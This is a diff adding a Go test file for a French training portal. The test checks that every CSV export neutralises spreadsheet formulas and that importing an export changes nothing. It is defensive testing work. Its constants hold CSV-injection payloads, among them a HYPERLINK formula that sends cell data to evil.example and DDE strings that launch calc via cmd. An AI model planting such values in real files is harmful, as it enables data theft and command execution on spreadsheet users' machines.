@@ -1,0 +1,282 @@
+package web_test
+
+import (
+	"archive/zip"
+	"bytes"
+	"context"
+	"encoding/csv"
+	"io"
+	"net/http"
+	"regexp"
+	"slices"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/PuerkitoBio/goquery"
+	"github.com/go-chi/chi/v5"
+
+	"campus/internal/account"
+)
+
+// Values a spreadsheet would run as formulas (CSV injection), put into the catalogue, the accounts and the
+// sessions that the portal's CSV files show.
+const (
+	hostileLink  = `=HYPERLINK("http://evil.example/?q="&A1;"Cliquez ici")`
+	hostileCmd   = `+cmd|' /C calc'!A0`
+	hostileSum   = `-2+3`
+	hostileAt    = `@SUM(1+1)*cmd|' /C calc'!A0`
+	hostileTab   = "\t=1+1"
+	hostileQuote = `'=1+2` // already "neutralised" by its author: must not come back as a formula
+	hostileEmail = "-2+3.agent@exemple.gouv.fr"
+)
+
+var (
+	// plainNumber is a cell that cannot run as a formula however it starts.
+	plainNumber = regexp.MustCompile(`^[+-]?[0-9]+([.,][0-9]+)?$`)
+	// csvRouteID and csvRouteExport turn the paths of the table into the router's patterns.
+	csvRouteID     = regexp.MustCompile(`/\d+/`)
+	csvRouteExport = regexp.MustCompile(`^/admin/export/[^/]+$`)
+)
+
+// checkSheet checks a CSV file of the portal: UTF-8 byte order mark, ";" separated, CRLF line ends, and no
+// cell that a spreadsheet would read as a formula (= + - @ tab CR first) unless it is a plain number. Each of
+// want must be a cell of the file, neutralised (so that the test cannot pass on a file without the values).
+func checkSheet(t *testing.T, name string, body []byte, want ...string) {
+	t.Helper()
+	if !bytes.HasPrefix(body, []byte("\xEF\xBB\xBF")) {
+		t.Errorf("%s: no UTF-8 byte order mark: %.40q", name, body)
+	}
+	body = bytes.TrimPrefix(body, []byte("\xEF\xBB\xBF"))
+	if !bytes.HasSuffix(body, []byte("\r\n")) || bytes.Count(body, []byte("\n")) != bytes.Count(body, []byte("\r\n")) {
+		t.Errorf("%s: not CRLF line ends", name)
+	}
+	r := csv.NewReader(bytes.NewReader(body))
+	r.Comma = ';'
+	recs, err := r.ReadAll()
+	if err != nil {
+		t.Fatalf("%s: %v", name, err)
+	}
+	if len(recs) < 2 || len(recs[0]) < 2 {
+		t.Fatalf("%s: %d records, first %q: not a ';'-separated table", name, len(recs), recs)
+	}
+	cells := map[string]bool{}
+	for i, rec := range recs {
+		for j, c := range rec {
+			cells[c] = true
+			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !plainNumber.MatchString(c) {
+				t.Errorf("%s: line %d, column %d (%s) is a formula: %q", name, i+1, j+1, recs[0][j], c)
+			}
+		}
+	}
+	for _, w := range want {
+		if !cells["'"+w] {
+			t.Errorf("%s: no cell %q (the hostile value %q neutralised)", name, "'"+w, w)
+		}
+	}
+}
+
+// TestCSV_EveryFileNeutralisesFormulas walks every CSV the portal serves, with hostile values in the database,
+// and reads each as a spreadsheet would.
+func TestCSV_EveryFileNeutralisesFormulas(t *testing.T) {
+	store := backofficeStore(t)
+	srv, portal := backofficeServer(t, store)
+	ctx := context.Background()
+	admin, _ := signedIn(t, srv, store, account.RoleAdmin)
+	trainerB, trainerU := signedIn(t, srv, store, account.RoleTrainer)
+	anon := newBrowser(t, srv)
+
+	// A dated module with a future session, an online module, both published, and what they show.
+	var moduleID, sessionID, domainID, onlineID, trackID, partnerID int64
+	if err := store.Pool().QueryRow(ctx, `SELECT m.id, s.id, m.domain_id FROM modules m JOIN module_sessions s ON s.module_id = m.id
+		JOIN domains d ON d.id = m.domain_id
+		WHERE m.status = 'published' AND d.status = 'published' AND s.status = 'scheduled' AND s.starts_at > now() + interval '3 days'
+		  AND s.seats_taken < s.capacity
+		ORDER BY m.id, s.starts_at LIMIT 1`).Scan(&moduleID, &sessionID, &domainID); err != nil {
+		t.Fatal(err)
+	}
+	if err := store.Pool().QueryRow(ctx, `SELECT id FROM modules WHERE status = 'published' AND format = 'en_ligne' ORDER BY id LIMIT 1`).
+		Scan(&onlineID); err != nil {
+		t.Fatal(err)
+	}
+	if err := store.Pool().QueryRow(ctx, `SELECT id FROM tracks WHERE status = 'published' ORDER BY id LIMIT 1`).Scan(&trackID); err != nil {
+		t.Fatal(err)
+	}
+	if err := store.Pool().QueryRow(ctx, `SELECT id FROM partners WHERE status = 'published' ORDER BY id LIMIT 1`).Scan(&partnerID); err != nil {
+		t.Fatal(err)
+	}
+	exec(t, store, `UPDATE domains SET title = $2, summary = $3 WHERE id = $1`, domainID, hostileLink, hostileSum)
+	exec(t, store, `UPDATE modules SET title = $2, summary = $3, prerequisites = $4 WHERE id = $1`, moduleID, hostileCmd, hostileSum, hostileQuote)
+	exec(t, store, `UPDATE modules SET title = $2, summary = $3 WHERE id = $1`, onlineID, hostileAt, hostileLink)
+	exec(t, store, `UPDATE tracks SET title = $2, administration = $3 WHERE id = $1`, trackID, hostileLink, hostileCmd)
+	exec(t, store, `UPDATE partners SET name = $2, short_name = $3 WHERE id = $1`, partnerID, hostileAt, hostileSum)
+	exec(t, store, `INSERT INTO licence_pools (slug, partner_id, name, size, valid_from, valid_until)
+		VALUES ('pool-csv', $1, 'Lot CSV', 10, current_date, current_date + 365)`, partnerID)
+	exec(t, store, `UPDATE audiences SET label = $1 WHERE id = (SELECT min(id) FROM audiences)`, hostileCmd)
+	exec(t, store, `UPDATE module_sessions SET place_name = $2, address = $3, city = $4, trainer_id = $5 WHERE id = $1`,
+		sessionID, hostileLink, hostileSum, hostileTab, trainerU.ID)
+	exec(t, store, `UPDATE users SET given_name = $2, usual_name = $3, administration = $4 WHERE id = $1`,
+		trainerU.ID, hostileAt, hostileLink, hostileCmd)
+	var agent int64
+	if err := store.Pool().QueryRow(ctx, `INSERT INTO users (email, given_name, usual_name, administration) VALUES ($1, $2, $3, $4) RETURNING id`,
+		hostileEmail, hostileLink, hostileCmd, hostileSum).Scan(&agent); err != nil {
+		t.Fatal(err)
+	}
+	exec(t, store, `INSERT INTO enrolments (user_id, module_id, session_id, status, queue_seq, confirmed_at)
+		VALUES ($1, $2, $3, 'confirmed', nextval('enrolment_queue_seq'), now())`, agent, moduleID, sessionID)
+	exec(t, store, `UPDATE module_sessions SET seats_taken = seats_taken + 1 WHERE id = $1`, sessionID)
+	exec(t, store, `INSERT INTO enrolments (user_id, module_id, status, confirmed_at) VALUES ($1, $2, 'confirmed', now())`, agent, onlineID)
+
+	type file struct {
+		path string
+		who  *browser
+		want []string // hostile values the file must show, neutralised
+	}
+	session, online := strconv.FormatInt(sessionID, 10), strconv.FormatInt(onlineID, 10)
+	files := []file{
+		{"/bilan/donnees.csv", anon, []string{hostileLink, hostileAt, hostileCmd}},
+		{"/admin/bilan/export.csv", admin, []string{hostileLink, hostileAt, hostileCmd}},
+		{"/api/catalogue.csv", anon, []string{hostileCmd, hostileSum, hostileAt, hostileLink}},
+		{"/admin/sessions/" + session + "/inscrits.csv", admin, []string{hostileLink, hostileCmd, hostileSum, hostileEmail}},
+		{"/admin/modules-en-ligne/" + online + "/inscrits.csv", admin, []string{hostileLink, hostileCmd, hostileAt}},
+		{"/formateur/sessions/" + session + "/inscrits.csv", trainerB, []string{hostileLink, hostileCmd}},
+		{"/admin/export/domaines.csv", admin, []string{hostileLink, hostileSum}},
+		{"/admin/export/parcours.csv", admin, []string{hostileLink, hostileCmd}},
+		{"/admin/export/modules.csv", admin, []string{hostileCmd, hostileSum, hostileAt, hostileLink, hostileQuote}},
+		{"/admin/export/sessions.csv", admin, []string{hostileLink, hostileSum, hostileTab, hostileAt + " " + hostileLink}},
+		{"/admin/export/partenaires.csv", admin, []string{hostileAt, hostileSum}},
+		{"/admin/export/publics.csv", admin, []string{hostileCmd}},
+	}
+
+	// Every CSV route of the router is in the table (a new one must be added here), and every file the
+	// export page offers.
+	covered := map[string]bool{}
+	for _, f := range files {
+		p := csvRouteID.ReplaceAllString(f.path, "/{id}/")
+		covered[csvRouteExport.ReplaceAllString(p, "/admin/export/{file}")] = true
+	}
+	var routes []string
+	chi.Walk(portal.Routes(), func(method, pattern string, _ http.Handler, _ ...func(http.Handler) http.Handler) error {
+		if method == http.MethodGet && (strings.HasSuffix(pattern, ".csv") || strings.Contains(pattern, "/export")) {
+			routes = append(routes, pattern)
+		}
+		return nil
+	})
+	if len(routes) < 6 {
+		t.Fatalf("chi.Walk reported only %d CSV routes: %v", len(routes), routes)
+	}
+	for _, r := range routes {
+		if !covered[r] {
+			t.Errorf("the CSV route %s is not checked by this test", r)
+		}
+	}
+	exportPage := admin.get("/admin/import-export")
+	var offered []string
+	exportPage.doc.Find(`a[href^="/admin/export/"]`).Each(func(_ int, s *goquery.Selection) {
+		offered = append(offered, s.AttrOr("href", ""))
+	})
+	if len(offered) < 2 || !slices.Contains(offered, "/admin/export/catalogue.zip") {
+		t.Fatalf("export page offers %v", offered)
+	}
+	for _, href := range offered {
+		if href != "/admin/export/catalogue.zip" && !slices.ContainsFunc(files, func(f file) bool { return f.path == href }) {
+			t.Errorf("the export %s is not checked by this test", href)
+		}
+	}
+
+	byName := map[string][]string{}
+	for _, f := range files {
+		t.Run(strings.ReplaceAll(strings.TrimPrefix(f.path, "/"), "/", "_"), func(t *testing.T) {
+			p := f.who.get(f.path)
+			if p.status != http.StatusOK || !strings.HasPrefix(p.header.Get("Content-Type"), "text/csv") {
+				t.Fatalf("%d %s", p.status, p.header.Get("Content-Type"))
+			}
+			checkSheet(t, f.path, []byte(p.body), f.want...)
+		})
+		if strings.HasPrefix(f.path, "/admin/export/") {
+			byName[strings.TrimPrefix(f.path, "/admin/export/")] = f.want
+		}
+	}
+
+	t.Run("admin_export_catalogue.zip", func(t *testing.T) {
+		p := admin.get("/admin/export/catalogue.zip")
+		zr, err := zip.NewReader(strings.NewReader(p.body), int64(len(p.body)))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(zr.File) != len(byName) {
+			t.Errorf("%d files in the zip, %d exports", len(zr.File), len(byName))
+		}
+		for _, zf := range zr.File {
+			want, ok := byName[zf.Name]
+			if !ok {
+				t.Errorf("zip: unexpected file %s", zf.Name)
+			}
+			rc, err := zf.Open()
+			if err != nil {
+				t.Fatal(err)
+			}
+			b, err := io.ReadAll(rc)
+			rc.Close()
+			if err != nil {
+				t.Fatal(err)
+			}
+			checkSheet(t, "catalogue.zip/"+zf.Name, b, want...)
+		}
+	})
+}
+
+// TestCSV_ImportReadsItsOwnExport: modules whose texts start with a formula character are exported
+// neutralised, and the export imported again changes nothing (the import reads the cells back to their value).
+func TestCSV_ImportReadsItsOwnExport(t *testing.T) {
+	store := backofficeStore(t)
+	srv, _ := backofficeServer(t, store)
+	b, _ := signedIn(t, srv, store, account.RoleAdmin)
+	ctx := context.Background()
+	hostile := []struct{ title, summary string }{
+		{"=SOMME(1;2) Atelier tableur", hostileSum + " pour commencer"},
+		{hostileSum + " Tableur", hostileCmd},
+		{hostileCmd, hostileAt},
+		{hostileAt + " Données", hostileLink},
+	}
+	rows, err := store.Pool().Query(ctx, `SELECT slug FROM modules WHERE status = 'published' ORDER BY id LIMIT $1`, len(hostile))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var slugs []string
+	for rows.Next() {
+		var s string
+		rows.Scan(&s)
+		slugs = append(slugs, s)
+	}
+	if rows.Err() != nil || len(slugs) != len(hostile) {
+		t.Fatalf("%d modules: %v", len(slugs), rows.Err())
+	}
+	var want []string
+	for i, h := range hostile {
+		exec(t, store, `UPDATE modules SET title = $2, summary = $3, objectives = ARRAY['+objectif', 'suite'], keywords = ARRAY['@mot', 'autre'],
+			prerequisites = $4 WHERE slug = $1`, slugs[i], h.title, h.summary, hostileQuote)
+		want = append(want, h.title, h.summary)
+	}
+	exp := b.get("/admin/export/modules.csv")
+	if exp.status != http.StatusOK {
+		t.Fatalf("export: %d", exp.status)
+	}
+	checkSheet(t, "modules.csv", []byte(exp.body), append(want, "+objectif|suite", "@mot|autre", hostileQuote)...)
+
+	p := b.postFile("/admin/import", "fichier", "modules.csv", []byte(exp.body))
+	if p.status != http.StatusOK || !strings.Contains(text(p.doc.Find(".fr-alert")), "ne change rien") {
+		t.Errorf("round trip: %d %q", p.status, text(p.doc.Find(".fr-alert")))
+	}
+	for _, slug := range slugs {
+		var result, detail string
+		p.doc.Find(`tr[id^="ligne-"]`).Each(func(_ int, s *goquery.Selection) {
+			if strings.HasPrefix(text(s.Find("th")), slug+" ") {
+				result, detail = text(s.Find("td").Eq(1)), text(s.Find("td").Eq(2))
+			}
+		})
+		if result != "Inchangé" {
+			t.Errorf("module %s: %q (%s), want Inchangé", slug, result, detail)
+		}
+	}
+}
